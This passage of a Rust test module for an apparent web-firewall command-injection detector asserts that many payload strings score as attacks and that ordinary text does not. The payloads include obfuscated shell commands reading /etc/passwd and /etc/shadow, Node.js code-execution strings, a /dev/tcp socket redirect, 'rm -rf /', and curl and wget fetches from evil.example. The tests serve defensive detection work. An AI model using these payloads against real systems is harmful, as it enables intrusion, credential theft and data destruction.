            "' whoami",
            "$aaaaaa/bin$bbbbbb/cat$ccccccc $dddddd/etc$eeeeeee/passwd$fffffff",
            "'; str=$(echo IITGSD); str1=${#str}; if [ 4 -ne ${str1} ]; then sleep 0; fi &",
            "FOR /F \"tokens=1-5\" %A IN (\"This is a short sentence\") DO @echo %A %B %D",
            "for %%d in (A,C,D) do DIR %%d *.*",
            "IF        [%1]==[]               ECHO Value Missing",
            "if (1) equ (1) echo hey",
            "IF        %ERRORLEVEL% GTR 2     echo test",
            "alias eennvv=env&eennvv whoami",
            "alias 'letter'=curl",
            "x;/usr/bin/[u]name -a",
            "${SHELL} -c \"echo hi\"",
            ";gdb -nx -ex \\!whoami -ex quit",
        ] {
            assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
        }
    }

    #[test]
    fn batch_wrappers_braces_and_node() {
        for a in [
            // cmd.exe loops with long variable names and `)DO` glued.
            "for %name in (a b) do echo %name",
            "&FOR %~ IN (x,y)DO whoami",
            // IF with a command, a block or a code-style comparison after the condition.
            "IF EXIST report.txt (type report.txt)",
            "IF NOT DEFINED foo GOTO end",
            "IF /I NOT EXIST C:\\x echo missing",
            "if x==y dosomething",
            "IF 3 GTR 2 echo bigger",
            // A prefix command running a command.
            "nohup whoami",
            "zstdcat /var/log/app.log.zst",
            "strace uname",
            "x;python3.11 -c print(1)",
            // Brace expansion spelling a command line.
            "{l,-la}s",
            "{,hostname}",
            "{cat,/etc/hostname}",
            "c{a,oun}t",
            // Node.js code execution.
            "{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}",
            "this.constructor.constructor('return process')()",
            "require('child_process').exec('id')",
            // Shellshock, canonical, without a body yet.
            "() {",
        ] {
            assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
        }
        for b in [
            "If you exist, say hi",
            "if not defined in the spec, skip it",
            "for your info in (brackets) do not reply",
            "file{1,2}.txt",
            "{a,b,c}",
            "{red,green}",
            "{\"a\":1,\"b\":2}",
            "nice python tutorial",
            "time to go",
            "the constructor of the class",
        ] {
            assert!(score(Part::QueryValue, b) < 5, "{b}: {:?}", rules(Part::QueryValue, b));
        }
    }

    #[test]
    fn escaped_separators_and_bare_command_lines() {
        for a in [
            // C-style escapes written out, as payload lists carry them.
            "\\nwhoami\\n",
            ";uname -a\\n",
            "x\\r\\nhostname;",
            "\\n\\033[2Acurl http://evil.example/x.sh",
            "q\\n\\e[1Kwget http://evil.example/x",
            // A value that is only a reconnaissance command, or a command line that only a
            // shell understands.
            "whoami",
            "IPCONFIG",
            "systeminfo.exe",
            "uname -r",
            "dir C:\\Windows\\Temp",
            "type d:\\secrets.txt",
            "net localgroup administrators",
            "netsh advfirewall set allprofiles state off",
            "which nc",
            "sleep 7",
            "ping -n 40 10.1.1.1",
            // Brace expansion, stacked backslashes, dotted Shellshock, glob-only paths.
            ";{c\\at,/etc/hostname}",
            "a;{\\c''\\a\\t,/e''*?/h?st??me}",
            "x; c\\\\a\\\\t /e\\\\tc/hosts",
            "().{.:;.};.echo hi",
            "q=1 /???/?at /e??/h?st?",
        ] {
            assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
        }
    }

    #[test]
    fn obfuscated_globs_tools_and_apis() {
        for a in [
            // Bracket globs resolving to system paths and commands.
            "cat /usr/sh[a]re/../e[t]c/group",
            "/s[b]in/ifconfig",
            "x; /u[s]r/bin/id",
            // Expansions building strings (`${VAR:0:1}` is a `/`), arithmetic, sockets.
            "cd ${HOME:0:1}tmp",
            "${SHELL%%sh}sh",
            "echo $[3*7]",
            "n=$((0x10+1))",
            "0<&196;exec 196<>$D/tcp/192.0.2.7/9001",
            "!-3",
            "ls ~-/secrets",
            // A command word spelt for a shell, a tool no prose names, an option later on.
            "x|$v whoami",
            "q;w''get evil.example",
            "a;\\r\\m -rf /",
            "p;cpan -i Foo::Bar",
            "k; sshpass -p secret ssh root@host",
            "z; terraform apply; knife ssh 'name:*' uptime",
            "m;msfconsole -q",
            "v=1&ipconfig/all",
            // Argv spelt with commas, process APIs, cmd.exe loops with `%%`, alias builtins.
            "gcc -wrapper bash,-c,whoami .",
            "Kernel.system(\"uname\")",
            "subprocess.getoutput('id')",
            "__import__(\"pty\").spawn(\"sh\")",
            "FOR %% IN (a b) DO ECHO %%",
            "alias -g x=y",
            ";alias ll=ls",
            "console.error(process.version)",
            "console['log'](1)",
            "x=require[\"child_process\"]",
            "new Function (\"return this\")()",
            // Empty substitutions inside a word, the value's own variables, SQLite escapes.
            "who``ami",
            "x;una$()me -a",
            "p=/etc/shadow;q=tail;$q -n 1 $p",
            "x=ca;y=t;${x}$y /etc/hosts",
            "1;\n.system id",
        ] {
            assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
        }
        for b in [
            // Brackets, dollars and tildes in ordinary text.
            "see [a] and [b]",
            "/api/users[1]/name",
            "costs $[0] today",
            "template ${first_name}",
            "${server.port}",
            "approx ~-5 degrees",
            "great!-) thanks",
            // Contractions, a tool named in prose, English words after a separator.
            "I'd like it; you'd too",
            "whoami is a command",
            "kubectl is the tool we use",
            "notes; python tutorial",
            "a;base64,AAAA",
            // Methods of ordinary objects, console as a word, aliases in prose.
            "my.process.run(1)",
            "the game console (new)",
            "known by the alias x=1 online",
            "os.name",
            "price=5;total=$price",
            "a=b&c=$d",
            "notes;.sh files are scripts",
            "q=``quoted``",
        ] {
            assert!(score(Part::QueryValue, b) < 5, "{b}: {:?}", rules(Part::QueryValue, b));
        }
        // A header value opening with a separator runs a command.
        let mut out = Vec::new();
        scan(&Value { part: Part::Header, name: "referer", text: ";env" }, &mut out);
        assert!(out.iter().any(|h| h.rule == "rce.command-chain"), "{out:?}");
        let mut out = Vec::new();
        scan(&Value { part: Part::Header, name: "user-agent", text: "Mozilla/5.0 (X11; Linux x86_64; env)" }, &mut out);
        assert!(out.is_empty(), "{out:?}");
    }

    /// The gate's command-start condition holds wherever the separator and leading-command
    /// rules find a command (they share the reader), and not on plain text.
    #[test]
    fn command_start_gate() {
        for a in ["x;id", "a && whoami", "ls -la", "' whoami", "x\nwget http://e/x", "y|  nc -l 4444", "q;python3.11 -c 1"] {
            assert!(command_start(a), "{a}");
        }
        for b in ["hello world", "Tom; Jerry", "a=1&b=2", "Mozilla/5.0 (X11; Linux x86_64)", "text/html;q=0.9"] {
            assert!(!command_start(b), "{b}");
        }
    }

    #[test]
    fn benign() {
        for b in [
            "Tom & Jerry",
            "ann&#x40;mail&#x2e;net",
            "jo&#46;doe&#64;host&#46;cat",
            "fish &amp; chips&#x2d;id&#x2e;nc",
            "rock & roll; jazz | blues",
            "I came; I saw; I conquered",
            "salt & pepper",
            "a=1&b=2&id=3",
            "Buy now; ship later | cancel any time",
            "We'll set up the meeting; type your notes here",
            "price: $100 (approx)",
            "cat food & dog toys",
            "Section 3; see page 4",
            "hello world",
            "jsessionid=abc;path=/",
            "C&A; H&M; M&S",
            "The cat sat on the mat. Echo the answer.",
            "x-y-z",
            "2+2=4",
            "function() { return 1; }",
            "(a) { b }",
            "R&D department; head office",
            "file; copy of my notes",
            "$HOME is your home",
            "mammal;cat;ears",
            "if not found, call us for help in (most) cases; do it now",
            "for each in (list) do something",
            "If exist, great",
            "LC & NC - Boys038-XL.jpg",
            "&uddg=http://www.example.com/blog/tags/zsh",
            // What a diagnostics form expects, and words that are only English.
            "ping 10.0.0.1",
            "nslookup example.com",
            "which one is better",
            "which python version should I use",
            "sleep 8 hours a night",
            "net use of funds",
            "dir",
            "id",
            "C:\\new\\test\\readme.txt",
            "/api/*/items",
            "uname",
            "whoami is a command",
            "what? /a?b/c",
        ] {
            assert!(score(Part::QueryValue, b) < 5, "{b}: {:?}", rules(Part::QueryValue, b));
        }
        // A parameter called `whoami` is not a command.
        let mut out = Vec::new();
        scan(&Value { part: Part::ArgName, name: "whoami", text: "whoami" }, &mut out);
        assert!(out.is_empty(), "{out:?}");
        // Prose in a body with a command word after a semicolon stays below PL1.
        let text = "Please check the log files carefully; cat /var/log/app.log shows the error we discussed yesterday";
        let mut out = Vec::new();
        scan(&Value { part: Part::BodyValue, name: "comment", text }, &mut out);
        assert!(out.iter().filter(|h| h.paranoia == 1).map(|h| h.score).sum::<u32>() < 5, "{out:?}");
    }
}
